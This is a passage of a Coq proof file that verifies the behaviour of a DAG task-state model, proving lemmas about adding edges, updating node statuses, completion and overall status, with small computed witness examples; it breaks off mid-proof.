Proof. unfold updNode. cbn [Nodes withNodes]. apply dom_alter_L. Qed.

(** X2. [AddEdge] returns on every state and never changes a status or
    the set of stored ids. An endpoint that is not stored gives the error
    that names it, an edge from a node to itself gives the cycle error,
    and in these cases the state is as before. *)
Theorem AddEdge_rejects_unknown_and_self (s : DAGState) (depID nodeID : string) :
  exists s' err, AddEdge s depID nodeID = Some (s', err) /\
    (forall x, statusOf s' x = statusOf s x) /\
    dom (Nodes s') = dom (Nodes s) /\
    (Nodes s !! depID = None ->
       err = Some ("node not found: " ++ depID)%string /\ s' = s) /\
    (is_Some (Nodes s !! depID) -> Nodes s !! nodeID = None ->
       err = Some ("node not found: " ++ nodeID)%string /\ s' = s) /\
    (is_Some (Nodes s !! depID) -> depID = nodeID ->
       err = Some ("cycle detected: " ++ depID ++ " -> " ++ nodeID)%string /\ s' = s).
Proof.
  unfold AddEdge.
  destruct (Nodes s !! depID) as [dep|] eqn:Hd.
  - destruct (Nodes s !! nodeID) as [node|] eqn:Hn.
    + destruct (hasPath_decides s nodeID depID) as (b & v & -> & Hb).
      destruct b.
      * eexists _, _. split; [done|]. split; [done|]. split; [done|].
        split; [done|]. split; [done|]. done.
      * eexists _, _. split; [done|].
        split; [intros x; by rewrite !statusOf_updNode_keep|].
        split; [by rewrite !dom_updNode|]. split; [done|]. split; [done|].
        intros _ ->. assert (false = true) as E; [|done].
        apply Hb, rtc_refl.
    + eexists _, _. split; [done|]. split; [done|]. split; [done|].
      split; [done|]. split; [done|]. intros _ ->. congruence.
  - eexists _, _. split; [done|]. split; [done|]. split; [done|].
    split; [done|]. split; by intros [? ?].
Qed.

(** A new edge from [d] to [n] opens no path from [n]. *)
Lemma rtc_new_edge (R R' : relation string) (d n : string) :
  (forall a b, R' a b -> R a b \/ (a = d /\ b = n)) ->
  forall y, rtc R' n y -> rtc R n y.
Proof.
  intros HR'. apply (rtc_ind_r (fun y => rtc R n y)); [apply rtc_refl|].
  intros y z _ Hyz IH.
  apply HR' in Hyz as [Hyz|[-> ->]]; [by eapply rtc_r | apply rtc_refl].
Qed.

(** X3. [AddEdge] does not look for the edge it is given: after it has
    added an edge it adds the same edge again, and the dependency is then
    listed once more on both sides. *)
Theorem AddEdge_accepts_the_same_edge_again (s : DAGState) (depID nodeID : string)
    (s1 : DAGState) :
  AddEdge s depID nodeID = Some (s1, None) ->
  exists s2 dep1 node1,
    AddEdge s1 depID nodeID = Some (s2, None) /\
    Nodes s1 !! depID = Some dep1 /\ Nodes s1 !! nodeID = Some node1 /\
    Nodes s2 !! depID = Some (withBlocks (Blocks dep1 ++ [nodeID]) dep1) /\
    Nodes s2 !! nodeID = Some (withDependsOn (DependsOn node1 ++ [depID]) node1) /\
    (0 < occ nodeID (Blocks dep1))%nat /\ (0 < occ depID (DependsOn node1))%nat.
Proof.
  intros (dep & node & Hd & Hn & Hne & Hnp & Hlook)%AddEdge_accepted.
  pose proof (Hlook depID) as Hd1. rewrite decide_True in Hd1 by done.
  pose proof (Hlook nodeID) as Hn1.
  rewrite decide_False, decide_True in Hn1 by done.
  assert (Hnp1 : ~ blocksPath s1 nodeID depID).
  { intros Hp. apply Hnp.
    apply (rtc_new_edge (blocksEdge s) (blocksEdge s1) depID nodeID); [|done].
    intros a b (na & Ha & Hb). rewrite Hlook in Ha.
    destruct (decide (a = depID)) as [->|Had].
    - injection Ha as <-. simpl in Hb.
      apply elem_of_app in Hb as [Hb|Hb%list_elem_of_singleton].
      + left. by exists dep.
      + by right.
    - destruct (decide (a = nodeID)) as [->|Han].
      + injection Ha as <-. left. by exists node.
      + left. by exists na. }
  unfold AddEdge. rewrite Hd1, Hn1.
  destruct (hasPath_decides s1 nodeID depID) as (b & v & -> & Hb).
  destruct b; [destruct Hnp1; by apply Hb|].
  eexists _, _, _. split; [done|]. split; [done|]. split; [done|].
  split; [|split; [|split]].
  - rewrite lookup_updNode, decide_True by done.
    rewrite lookup_updNode, decide_False by done. by rewrite Hd1.
  - rewrite lookup_updNode, decide_False by done.
    rewrite lookup_updNode, decide_True by done. by rewrite Hn1.
  - apply occ_pos. simpl. apply elem_of_app. right. by left.
  - apply occ_pos. simpl. apply elem_of_app. right. by left.
Qed.

Lemma AddEdge_accepts_the_same_edge_again_witness :
  exists s2 dep1 node1,
    AddEdge chainXYZ "y" "z" = Some (s2, None) /\
    Nodes chainXYZ !! "y" = Some dep1 /\ Nodes chainXYZ !! "z" = Some node1 /\
    Nodes s2 !! "y" = Some (withBlocks (Blocks dep1 ++ ["z"]) dep1) /\
    Nodes s2 !! "z" = Some (withDependsOn (DependsOn node1 ++ ["y"]) node1) /\
    (0 < occ "z" (Blocks dep1))%nat /\ (0 < occ "y" (DependsOn node1))%nat.
Proof.
  apply (AddEdge_accepts_the_same_edge_again
           (addEdges
              (addNodes (NewDAGState "kv-000001" "test-cycle" "cycle test")
                 [testNode "x" "X" "" ""; testNode "y" "Y" "" "";
                  testNode "z" "Z" "" ""])
              [("x", "y")]) "y" "z" chainXYZ).
  vm_compute; reflexivity.
Defined.

(** *** Invariants of constructed states *)

Lemma Acc_tc (R : relation string) x : Acc R x -> Acc (tc R) x.
Proof.
  induction 1 as [x _ IH]. constructor. intros y Hy.
  induction Hy as [y x Hyx|y z x Hyz Hzx IHtc].
  - by apply IH.
  - apply (Acc_inv (IHtc IH)). by apply tc_once.
Qed.

Lemma Acc_no_cycle (R : relation string) x : Acc R x -> ~ tc R x x.
Proof.
  intros H%Acc_tc. induction H as [x _ IH]. intros Hx. exact (IH x Hx Hx).
Qed.

Lemma AddEdge_fields s d n s' err :
  AddEdge s d n = Some (s', err) ->
  MaxLevel s' = MaxLevel s /\ dagStatus s' = dagStatus s.
Proof.
  unfold AddEdge.
  destruct (Nodes s !! d); [|by intros [= <- <-]].
  destruct (Nodes s !! n); [|by intros [= <- <-]].
  destruct (hasPath _ _ _ _ _) as [[[] v]|]; [| |done]; by intros [= <- <-].
Qed.

Lemma Constructed_keyed s :
  Constructed s -> keyedByID s /\ MaxLevel s = 0 /\ dagStatus s = DAGActive.
Proof.
  induction 1 as [| s n _ (IHk & IHm & IHd) Hd Hb Hok
                  | s d n s' _ (IHk & IHm & IHd) Hok].
  - split; [|done]. intros k m. cbn [Nodes NewDAGState].
    by rewrite lookup_empty.
  - unfold AddNode in *. destruct (Nodes s !! ID n) eqn:E; [done|].
    unfold keyedByID.
    cbn [fst snd Nodes withNodes MaxLevel dagStatus] in *. split; [|done].
    intros k m. rewrite lookup_insert. case_decide as Hid; [|by apply IHk].
    intros [= <-]. rewrite <- Hid. by case_bool_decide.
  - pose proof (AddEdge_fields _ _ _ _ _ Hok) as [-> ->]. split; [|done].
    apply AddEdge_accepted in Hok as (dep & node & Hd & Hn & _ & _ & Hlook).
    intros k m. rewrite Hlook. repeat case_decide; subst.
    + intros [= <-]. by apply (IHk d dep).
    + intros [= <-]. by apply (IHk n node).
    + apply IHk.
Qed.

Lemma tc_blocksEdge_depRel s a b :
  WellFormed s -> tc (blocksEdge s) a b -> tc (depRel s) a b.
Proof.
  intros Hwf. induction 1 as [a b H|a b c H _ IH].
  - apply tc_once. by apply (proj1 (blocksEdge_depRel s a b Hwf)).
  - eapply tc_l; [|exact IH]. by apply (proj1 (blocksEdge_depRel s a b Hwf)).
Qed.

(** X4. Every state built from [NewDAGState] by successful calls of
    [AddNode] and [AddEdge] stores each node under its own id, lists only
    stored ids, lists every edge as often in the [Blocks] of its source as
    in the [DependsOn] of its target, and has no cycle; [MaxLevel] is
    still 0 and the overall status is still active. *)
Theorem Constructed_invariants (s : DAGState) :
  Constructed s ->
  keyedByID s /\
  (forall x nx y, Nodes s !! x = Some nx ->
     y ∈ Blocks nx \/ y ∈ DependsOn nx -> is_Some (Nodes s !! y)) /\
  (forall x y nx ny, Nodes s !! x = Some nx -> Nodes s !! y = Some ny ->
     occ y (Blocks nx) = occ x (DependsOn ny)) /\
  (forall x, ~ tc (blocksEdge s) x x) /\
  MaxLevel s = 0 /\ dagStatus s = DAGActive.
Proof.
  intros Hc. pose proof (Constructed_WellFormed s Hc) as Hwf.
  destruct (Constructed_keyed s Hc) as (Hk & Hm & Hd).
  split; [done|]. split; [|split; [|split; [|done]]].
  - intros x nx y Hx [Hy|Hy]; apply elem_of_dom.
    + by eapply wf_blocks_stored.
    + by eapply wf_deps_stored.
  - apply (wf_agree s Hwf).
  - intros x Hx. apply (Acc_no_cycle (depRel s) x (wf_acc s Hwf x)).
    by apply tc_blocksEdge_depRel.
Qed.

Lemma Constructed_invariants_witness :
  keyedByID diamond /\
  (forall x nx y, Nodes diamond !! x = Some nx ->
     y ∈ Blocks nx \/ y ∈ DependsOn nx -> is_Some (Nodes diamond !! y)) /\
  (forall x y nx ny, Nodes diamond !! x = Some nx -> Nodes diamond !! y = Some ny ->
     occ y (Blocks nx) = occ x (DependsOn ny)) /\
  (forall x, ~ tc (blocksEdge diamond) x x) /\
  MaxLevel diamond = 0 /\ dagStatus diamond = DAGActive.
Proof.
  apply (Constructed_invariants diamond). exact diamond_constructed.
Defined.

(** *** What UpdateNodeStatus leaves alone *)

Lemma onlyStatuses_refl s : onlyStatuses s s.
Proof. by repeat split. Qed.

Lemma onlyStatuses_trans s1 s2 s3 :
  onlyStatuses s1 s2 -> onlyStatuses s2 s3 -> onlyStatuses s1 s3.
Proof.
  intros (a1 & b1 & c1 & d1 & e1) (a2 & b2 & c2 & d2 & e2).
  split; [congruence|]. split; [congruence|]. split; [congruence|].
  split; [congruence|]. intros id. by rewrite e2.
Qed.

Lemma onlyStatuses_updNode s id st : onlyStatuses s (updNode id (withStatus st) s).
Proof.
  split; [done|]. split; [done|]. split; [done|]. split; [done|].
  intros x. rewrite lookup_updNode. case_decide; [|done].
  by destruct (Nodes s !! x).
Qed.

Lemma onlyStatuses_checkReady s c : onlyStatuses s (checkReady s c).
Proof.
  unfold checkReady. destruct (Nodes s !! c) as [cn|]; [|apply onlyStatuses_refl].
  destruct (IsTerminal _); [apply onlyStatuses_refl|].
  destruct (depsAllDone _ _); [apply onlyStatuses_updNode | apply onlyStatuses_refl].
Qed.

Lemma dagStatus_checkReady s c : dagStatus (checkReady s c) = dagStatus s.
Proof.
  unfold checkReady. destruct (Nodes s !! c) as [cn|]; [|done].
  destruct (IsTerminal _); [done|]. by destruct (depsAllDone _ _).
Qed.

Lemma foldl_checkReady_frame l :
  forall s, onlyStatuses s (foldl checkReady s l) /\
            dagStatus (foldl checkReady s l) = dagStatus s.
Proof.
  induction l as [|c l IH]; intros s; simpl; [split; [apply onlyStatuses_refl|done]|].
  destruct (IH (checkReady s c)) as [H1 H2]. split.
  - eapply onlyStatuses_trans; [apply onlyStatuses_checkReady | done].
  - by rewrite H2, dagStatus_checkReady.
Qed.

Lemma propagateSkip_frame fuel :
  forall s id s', propagateSkip fuel s id = Some s' ->
    onlyStatuses s s' /\ dagStatus s' = dagStatus s.
Proof.
  induction fuel as [|fuel IH]; intros s id s'; simpl; [done|].
  destruct (Nodes s !! id) as [node|];
    [|intros [= <-]; split; [apply onlyStatuses_refl|done]].
  destruct (IsTerminal _); [intros [= <-]; split; [apply onlyStatuses_refl|done]|].
  generalize (updNode id (withStatus StatusSkipped) s)
    (onlyStatuses_updNode s id StatusSkipped)
    (eq_refl : dagStatus (updNode id (withStatus StatusSkipped) s) = dagStatus s).
  induction (Blocks node) as [|c l IHl]; intros t Ht Hd; simpl.
  - by intros [= <-].
  - destruct (propagateSkip fuel t c) as [t1|] eqn:E; [|done].
    apply IH in E as [E1 E2]. apply IHl.
    + by eapply onlyStatuses_trans.
    + congruence.
Qed.

Lemma forEach_propagateSkip_frame fuel l :
  forall s s', forEach (propagateSkip fuel) s l = Some s' ->
    onlyStatuses s s' /\ dagStatus s' = dagStatus s.
Proof.
  induction l as [|c l IH]; intros s s'; simpl.
  - intros [= <-]. split; [apply onlyStatuses_refl|done].
  - destruct (propagateSkip fuel s c) as [t|] eqn:E; [|done].
    apply propagateSkip_frame in E as [E1 E2].
    intros [H1 H2]%IH. split; [by eapply onlyStatuses_trans | congruence].
Qed.

Lemma onlyStatuses_refreshStatus s : onlyStatuses s (refreshStatus s).
Proof.
  unfold refreshStatus. destruct (IsComplete s); [|apply onlyStatuses_refl].
  by destruct (existsb _ _).
Qed.

Lemma onlyStatuses_sameGraph s s' : onlyStatuses s s' -> sameGraph s s'.
Proof.
  intros (_ & _ & _ & _ & H) id. specialize (H id).
  destruct (Nodes s' !! id) as [n'|], (Nodes s !! id) as [n|]; simpl in *;
    try done.
  assert (E : withStatus "" n' = withStatus "" n) by congruence.
  split; f_equal.
  - by apply (f_equal Blocks) in E.
  - by apply (f_equal DependsOn) in E.
Qed.

(** The state before the overall status is recomputed. *)
Lemma UpdateNodeStatus_steps s id status node :
  Nodes s !! id = Some node ->
  exists s3,
    UpdateNodeStatus s id status = Some (refreshStatus s3) /\
    onlyStatuses s s3 /\ dagStatus s3 = dagStatus s /\
    statusOf s3 id = Some status /\
    (forall x, x <> id ->
       statusOf s3 x = statusOf s x \/
       (nonTerminalAt s x /\
        ((status = StatusDone /\ statusOf s3 x = Some StatusReady) \/
         (status = StatusFailed /\ statusOf s3 x = Some StatusSkipped)))) /\
    (status = StatusDone -> forall c, c ∈ Blocks node -> settled s3 c) /\
    (status = StatusFailed -> forall c, c ∈ Blocks node -> terminalAt s3 c).
Proof.
  intros Hn. unfold UpdateNodeStatus. rewrite Hn. cbv zeta.
  set (s1 := updNode id (withStatus status) s).
  assert (H1n : statusOf s1 id = Some status).
  { unfold s1. rewrite statusOf_updNode_status. case_decide; [|done]. by rewrite Hn. }
  assert (H1x : forall x, x <> id -> statusOf s1 x = statusOf s x).
  { intros x Hx. unfold s1. rewrite statusOf_updNode_status. by case_decide. }
  assert (Hnt : forall x, x <> id -> nonTerminalAt s1 x -> nonTerminalAt s x).
  { intros x Hx. rewrite !nonTerminalAt_statusOf. by rewrite H1x. }
  pose proof (onlyStatuses_updNode s id status) as Hf1. fold s1 in Hf1.
  destruct (decide (status = StatusDone)) as [->|Hnd].
  - rewrite (bool_decide_eq_true_2 (StatusDone = StatusDone)) by done.
    rewrite (bool_decide_eq_false_2 (StatusDone = StatusFailed)) by discriminate.
    eexists. split; [done|].
    destruct (foldl_checkReady s1 (Blocks node)) as [Hp Hset].
    destruct (foldl_checkReady_frame (Blocks node) s1) as [Hf2 Hd2].
    split; [by eapply onlyStatuses_trans|]. split; [done|].
    split; [by eapply promotes_terminal|].
    split; [|split; [done | discriminate]].
    intros x Hx. destruct Hp as [_ Hp]. rewrite <- H1x by done.
    destruct (Hp x) as [E|(Hx1 & E & _)]; [by left|right].
    split; [by apply Hnt|]. by left.
  - rewrite (bool_decide_eq_false_2 (status = StatusDone)) by done.
    destruct (decide (status = StatusFailed)) as [->|Hnf].
    + rewrite (bool_decide_eq_true_2 (StatusFailed = StatusFailed)) by done.
      destruct (forEach_invariant (propagateSkip (propagateSkipFuel s1))
                  (fun t => skips s1 t) (Blocks node)) with (s := s1)
        as (s3 & Hs3 & _); [|apply promotes_refl|].
      { intros t c _ Ht.
        destruct (propagateSkip_returns (propagateSkipFuel s1) t c) as [t' Hc].
        - pose proof (subseteq_size _ _ (liveSet_skips s1 t Ht)).
          pose proof (liveSet_size s1). unfold propagateSkipFuel. lia.
        - exists t'. split; [done|].
          apply propagateSkip_post in Hc as (Hsk & _). by eapply promotes_trans. }
      rewrite Hs3. exists s3. split; [done|].
      pose proof (forEach_propagateSkip_frame _ _ _ _ Hs3) as [Hf2 Hd2].
      apply (skipLoop_post _ (propagateSkip_post (propagateSkipFuel s1))) in Hs3
        as (Hsk & Hall & Hcl).
      split; [by eapply onlyStatuses_trans|]. split; [done|].
      split; [by eapply promotes_terminal|].
      split; [|split; [discriminate | done]].
      intros x Hx. destruct Hsk as [_ Hsk]. rewrite <- H1x by done.
      destruct (Hsk x) as [E|(Hx1 & E & _)]; [by left|right].
      split; [by apply Hnt|]. by right.
    + rewrite (bool_decide_eq_false_2 (status = StatusFailed)) by done.
      exists s1. split; [done|]. split; [done|]. split; [done|].
      split; [done|]. split; [|done]. intros x Hx. left. by apply H1x.
Qed.

(** *** UpdateNodeStatus on a terminal node *)

(** C9, as the code behaves. [checkReady] and [propagateSkip] return at a
    terminal node; [UpdateNodeStatus] has no such guard and assigns the
    status before it looks at the node. Called on a stored terminal node
    with a status other than the one the node has, it returns a state in
    which the node has the new status, so the call is not a no-op; when
    the new status is failed, the nodes on the live paths from the node
    are skipped as well. *)
Theorem UpdateNodeStatus_overwrites_terminal (s : DAGState) (id : string)
    (node : Node) (status : NodeStatus) :
  Nodes s !! id = Some node ->
  IsTerminal (Status node) = true ->
  status <> Status node ->
  exists s', UpdateNodeStatus s id status = Some s' /\
    statusOf s id = Some (Status node) /\
    statusOf s' id = Some status /\
    ~ unchanged s s' /\
    (status = StatusFailed ->
       forall d, livePath s id d -> d <> id -> statusOf s' d = Some StatusSkipped).
Proof.
  intros Hn Ht Hne.
  destruct (UpdateNodeStatus_steps s id status node Hn)
    as (s3 & E & _ & _ & Hid & _).
  exists (refreshStatus s3). split; [done|].
  assert (Hs : statusOf s id = Some (Status node)).
  { unfold statusOf. by rewrite Hn. }
  split; [done|]. rewrite statusOf_refreshStatus. split; [done|]. split.
  - intros (_ & Hst & _). specialize (Hst id).
    rewrite statusOf_refreshStatus, Hid, Hs in Hst. congruence.
  - intros -> d Hp Hd.
    destruct (UpdateNodeStatus_failed_post s id node Hn) as (s' & E' & _ & Hsk & _).
    rewrite E in E'. injection E' as <-. by apply Hsk.
Qed.

Lemma UpdateNodeStatus_overwrites_terminal_witness :
  exists s', UpdateNodeStatus doneA "a" StatusFailed = Some s' /\
    statusOf doneA "a" = Some StatusDone /\
    statusOf s' "a" = Some StatusFailed /\
    ~ unchanged doneA s' /\
    (StatusFailed = StatusFailed ->
       forall d, livePath doneA "a" d -> d <> "a" ->
                 statusOf s' d = Some StatusSkipped).
Proof.
  apply (UpdateNodeStatus_overwrites_terminal doneA "a"
           (mkNode "a" "A" "" "" "" StatusDone [] ["b"] 0 "" ∅) StatusFailed).
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; discriminate.
Defined.

(** The same call, evaluated: a was done and is failed, b was ready and c
    pending and both are skipped, and the overall status went from active
    to failed. *)
Example remark_done_as_failed :
  (statusOf doneA "a", statusOf doneA "b", statusOf doneA "c", dagStatus doneA)
    = (Some StatusDone, Some StatusReady, Some StatusPending, DAGActive) /\
  let s' := updateStatus doneA "a" StatusFailed in
  UpdateNodeStatus doneA "a" StatusFailed = Some s' /\
  (statusOf s' "a", statusOf s' "b", statusOf s' "c", dagStatus s')
    = (Some StatusFailed, Some StatusSkipped, Some StatusSkipped, DAGFailed).
Proof. repeat split; vm_compute; reflexivity. Qed.

(** *** What UpdateNodeStatus leaves alone *)

(** X5. [UpdateNodeStatus] returns on every state, also one whose
    [Blocks] lists form a cycle. It changes nothing but statuses: an
    unknown id changes nothing at all, a stored node receives the status
    it is given, and another node changes only from a non-terminal status
    to ready, when the status given is done, or to skipped, when it is
    failed. *)
Theorem UpdateNodeStatus_touches_only_statuses (s : DAGState) (id : string)
    (status : NodeStatus) :
  exists s', UpdateNodeStatus s id status = Some s' /\
    onlyStatuses s s' /\
    (Nodes s !! id = None -> s' = s) /\
    (is_Some (Nodes s !! id) -> statusOf s' id = Some status) /\
    forall x, x <> id ->
      statusOf s' x = statusOf s x \/
      (nonTerminalAt s x /\
       ((status = StatusDone /\ statusOf s' x = Some StatusReady) \/
        (status = StatusFailed /\ statusOf s' x = Some StatusSkipped))).
Proof.
  destruct (Nodes s !! id) as [node|] eqn:Hn.
  - destruct (UpdateNodeStatus_steps s id status node Hn)
      as (s3 & -> & Hf & _ & Hid & Hx & _).
    eexists. split; [done|].
    split; [eapply onlyStatuses_trans; [done | apply onlyStatuses_refreshStatus]|].
    split; [done|]. setoid_rewrite statusOf_refreshStatus. by split.
  - exists s. unfold UpdateNodeStatus. rewrite Hn.
    split; [done|]. split; [apply onlyStatuses_refl|]. split; [done|].
    split; [by intros [? ?]|]. intros x _. by left.
Qed.

Lemma settled_Nodes s t c : Nodes t = Nodes s -> settled s c -> settled t c.
Proof.
  unfold settled, nonTerminalAt, depsDoneAt, statusOf. intros ->. done.
Qed.

Lemma checkReady_settled_same s c : settled s c -> checkReady s c = s.
Proof.
  intros Hs. unfold checkReady.
  destruct (Nodes s !! c) as [cn|] eqn:Hc; [|done].
  destruct (IsTerminal (Status cn)) eqn:Ht; [done|].
  destruct (depsAllDone s (DependsOn cn)) eqn:Hd; [|done].
  apply (updNode_same s c _ cn Hc).
  assert (statusOf s c = Some StatusReady) as Hr.
  { apply Hs; [by exists cn|]. by apply (depsAllDone_depsDoneAt s c cn). }
  unfold statusOf in Hr. rewrite Hc in Hr. injection Hr as <-.
  apply withStatus_same.
Qed.

Lemma foldl_checkReady_settled s l :
  (forall c, c ∈ l -> settled s c) -> foldl checkReady s l = s.
Proof.
  induction l as [|c l IH]; intros H; simpl; [done|].
  rewrite checkReady_settled_same; [|apply H; left].
  apply IH. intros c' Hc'. apply H. by right.
Qed.

Lemma IsComplete_Nodes s t : Nodes t = Nodes s -> IsComplete t = IsComplete s.
Proof. unfold IsComplete, nodeList. by intros ->. Qed.

Lemma refreshStatus_idem s : refreshStatus (refreshStatus s) = refreshStatus s.
Proof.
  unfold refreshStatus at 1.
  rewrite (IsComplete_Nodes s (refreshStatus s) (Nodes_refreshStatus s)).
  unfold nodeList. rewrite Nodes_refreshStatus.
  unfold refreshStatus. destruct (IsComplete s); [|done].
  by destruct (existsb _ _).
Qed.

(** X6. Calling [UpdateNodeStatus] a second time with the same id and
    status changes nothing: the first call has already made every child
    ready or skipped that the second would. *)
Theorem UpdateNodeStatus_twice (s : DAGState) (id : string) (status : NodeStatus) :
  exists s', UpdateNodeStatus s id status = Some s' /\
             UpdateNodeStatus s' id status = Some s'.
Proof.
  destruct (Nodes s !! id) as [node|] eqn:Hn.
  - destruct (UpdateNodeStatus_steps s id status node Hn)
      as (s3 & -> & Hf & _ & Hid & _ & Hdone & Hfailed).
    eexists. split; [done|].
    set (s' := refreshStatus s3).
    pose proof (Nodes_refreshStatus s3) as HN. fold s' in HN.
    apply statusOf_Some in Hid as (n3 & Hn3 & Hst).
    pose proof (onlyStatuses_sameGraph _ _ Hf id) as [Hb _].
    rewrite Hn3, Hn in Hb. injection Hb as Hb.
    unfold UpdateNodeStatus. rewrite HN, Hn3. cbv zeta.
    rewrite (updNode_same s' id _ n3); [|by rewrite HN|by rewrite <- Hst; apply withStatus_same].
    rewrite Hb.
    assert ((if bool_decide (status = StatusDone)
             then foldl checkReady s' (Blocks node) else s') = s') as ->.
    { case_bool_decide; [|done]. apply foldl_checkReady_settled.
      intros c Hc. apply (settled_Nodes s3); [done|]. by apply Hdone. }
    assert ((if bool_decide (status = StatusFailed)
             then forEach (propagateSkip (propagateSkipFuel s')) s' (Blocks node)
             else Some s') = Some s') as ->.
    { case_bool_decide; [|done]. unfold propagateSkipFuel.
      apply forEach_propagateSkip_terminal. intros c Hc m Hm.
      rewrite HN in Hm. by eapply Hfailed. }
    unfold s'. by rewrite refreshStatus_idem.
  - exists s. unfold UpdateNodeStatus. by rewrite Hn.
Qed.

(** *** The overall status *)

Lemma elem_of_nodeList s n : n ∈ nodeList s <-> exists id, Nodes s !! id = Some n.
Proof.
  unfold nodeList. rewrite list_elem_of_fmap. split.
  - intros ([id m] & -> & H%elem_of_map_to_list). by exists id.
  - intros (id & H). exists (id, n). split; [done|]. by apply elem_of_map_to_list.
Qed.

Lemma IsComplete_true s :
  IsComplete s = true <-> (exists id, is_Some (Nodes s !! id)) /\ allTerminal s.
Proof.
  unfold IsComplete, allTerminal.
  rewrite andb_true_iff, bool_decide_eq_true, forallb_forall.
  setoid_rewrite <- list_elem_of_In. setoid_rewrite elem_of_nodeList.
  assert ((0 < size (Nodes s))%nat <-> exists id, is_Some (Nodes s !! id)) as ->.
  { rewrite <- map_size_ne_0_lookup. lia. }
  split.
  - intros [Hall Hex]. split; [done|]. intros id n H. apply Hall. eauto.
  - intros [Hex Hall]. split; [|done]. intros n (id & H). eauto.
Qed.

(** X7. A DAG is complete exactly when it stores at least one node and
    every stored node is done, failed or skipped; a DAG without nodes is
    never complete. *)
Theorem IsComplete_iff_nonempty_all_terminal (s : DAGState) :
  (IsComplete s = true <->
   (exists id, is_Some (Nodes s !! id)) /\
   forall id n, Nodes s !! id = Some n ->
     Status n = StatusDone \/ Status n = StatusFailed \/ Status n = StatusSkipped) /\
  (Nodes s = ∅ -> IsComplete s = false).
Proof.
  split.
  - rewrite IsComplete_true. unfold allTerminal.
    by setoid_rewrite IsTerminal_true.
  - intros E. apply not_true_is_false. rewrite IsComplete_true.
    intros [(id & n & Hid) _]. by rewrite E in Hid.
Qed.

(** X8. After [UpdateNodeStatus] on a stored node the overall status is
    complete when every node is done, failed when every node is terminal
    and one of them is not done, and otherwise what it was before the
    call, whatever that was: the status is never set back to active. *)
Theorem UpdateNodeStatus_overall_status (s : DAGState) (id : string)
    (status : NodeStatus) (node : Node) :
  Nodes s !! id = Some node ->
  exists s', UpdateNodeStatus s id status = Some s' /\
    ((allDone s' /\ dagStatus s' = DAGComplete) \/
     (allTerminal s' /\ ~ allDone s' /\ dagStatus s' = DAGFailed) \/
     (~ allTerminal s' /\ dagStatus s' = dagStatus s)).
Proof.
  intros Hn.
  destruct (UpdateNodeStatus_steps s id status node Hn)
    as (s3 & -> & _ & Hd & (n3 & Hn3 & _)%statusOf_Some & _).
  eexists. split; [done|].
  pose proof (Nodes_refreshStatus s3) as HN.
  unfold allDone, allTerminal. rewrite HN.
  unfold refreshStatus. destruct (IsComplete s3) eqn:Hc.
  - apply IsComplete_true in Hc as [_ Hall].
    destruct (existsb _ (nodeList s3)) eqn:Hex.
    + right; left. split; [done|]. split; [|done].
      apply existsb_exists in Hex as (n & Hin & Hfs).
      apply list_elem_of_In, elem_of_nodeList in Hin as (x & Hx).
      intros Hdone. rewrite (Hdone x n Hx) in Hfs. by vm_compute in Hfs.
    + left. split; [|done]. intros x n Hx.
      pose proof (Hall x n Hx) as Ht. apply IsTerminal_true in Ht.
      destruct Ht as [Ht|Ht]; [done|exfalso].
      assert (existsb (fun n => bool_decide (Status n = StatusFailed)
                                || bool_decide (Status n = StatusSkipped))
                      (nodeList s3) = true) as E; [|congruence].
      apply existsb_exists. exists n.
      split; [apply list_elem_of_In, elem_of_nodeList; eauto|].
      rewrite orb_true_iff, !bool_decide_eq_true. tauto.
  - right; right. split; [|done]. intros Hall.
    assert (IsComplete s3 = true) as E; [|congruence].
    apply IsComplete_true. split; [|done]. by exists id, n3.
Qed.

Lemma UpdateNodeStatus_overall_status_witness :
  exists s', UpdateNodeStatus doneA "b" StatusFailed = Some s' /\
    ((allDone s' /\ dagStatus s' = DAGComplete) \/
     (allTerminal s' /\ ~ allDone s' /\ dagStatus s' = DAGFailed) \/
     (~ allTerminal s' /\ dagStatus s' = dagStatus doneA)).
Proof.
  apply (UpdateNodeStatus_overall_status doneA "b" StatusFailed
           (mkNode "b" "B" "" "" "" StatusReady ["a"] ["c"] 0 "" ∅)).
  vm_compute; reflexivity.
Defined.

(** *** TopoLevels on an arbitrary state *)

Lemma wave_fields k Q :
  forall w w', forEach (processNode k) w Q = Some w' ->
    dagID (wState w') = dagID (wState w) /\
    SessionID (wState w') = SessionID (wState w) /\
    RootPrompt (wState w') = RootPrompt (wState w) /\
    dagStatus (wState w') = dagStatus (wState w) /\
    MaxLevel (wState w') = MaxLevel (wState w).
Proof.
  induction Q as [|q Q IH]; intros w w'; simpl.
  - by intros [= <-].
  - unfold processNode at 1. destruct (Nodes (wState w) !! q) as [n|]; [|done].
    intros (a & b & c & d & e)%IH. by simpl in *.
Qed.

Lemma queue_step s fuel st inDeg queue levels processed w :
  queue <> [] ->
  QueueInv s (S fuel) st inDeg queue levels processed ->
  forEach (processNode (Z.of_nat (length levels)))
          (mkWave st inDeg [] processed []) queue = Some w ->
  QueueInv s fuel (wState w) (wInDeg w) (wNext w)
           (levels ++ [mkLevel (Z.of_nat (length levels)) (wNodes w)])
           (wProcessed w).
Proof.
  intros Hne Hinv Hw.
  pose proof (wave_fields _ _ _ _ Hw) as (Fa & Fb & Fc & Fd & Fe).
  apply wave_spec in Hw as (Hrel & Hnodes & Hproc & Hst).
  cbn [wState wInDeg wNext wNodes wProcessed] in *. simpl in Hnodes.
  set (B := flat_map (blocksOf st) queue) in *.
  destruct (releaseBlocked_fold B inDeg []) as (Hdeg & added & Hadd & Hnd & Hmem).
  rewrite <- Hrel in Hdeg, Hadd. simpl in Hdeg, Hadd. subst added.
  destruct Hinv as [Hfr Hmax Hnodup Hstored Hused Hwait Habs Hp Hlv Hfuel].
  set (P := placed levels) in *.
  assert (HP' : placed (levels ++ [mkLevel (Z.of_nat (length levels)) (wNodes w)])
                = P ++ queue) by (by rewrite placed_app, Hnodes).
  assert (Hnew : forall x, x ∈ wNext w -> 0 < inDegOf inDeg x)
    by (intros x Hx; apply Hmem in Hx; lia).
  assert (Hfresh : forall x, x ∈ queue -> x ∉ P).
  { intros x Hq HP. apply NoDup_app in Hnodup as (_ & Hd & _). by apply (Hd x). }
  split.
  - destruct Hfr as (a & b & c & d & e).
    split; [congruence|]. split; [congruence|]. split; [congruence|].
    split; [congruence|]. intros id. rewrite Hst, <- e.
    case_bool_decide; [|done]. by destruct (Nodes st !! id).
  - congruence.
  - rewrite HP'. apply NoDup_app. split; [done|]. split; [|done].
    intros x Hx Hx'. apply Hused in Hx. apply Hnew in Hx'. lia.
  - intros x. rewrite HP'. intros [Hx|Hx]%elem_of_app; [by apply Hstored|].
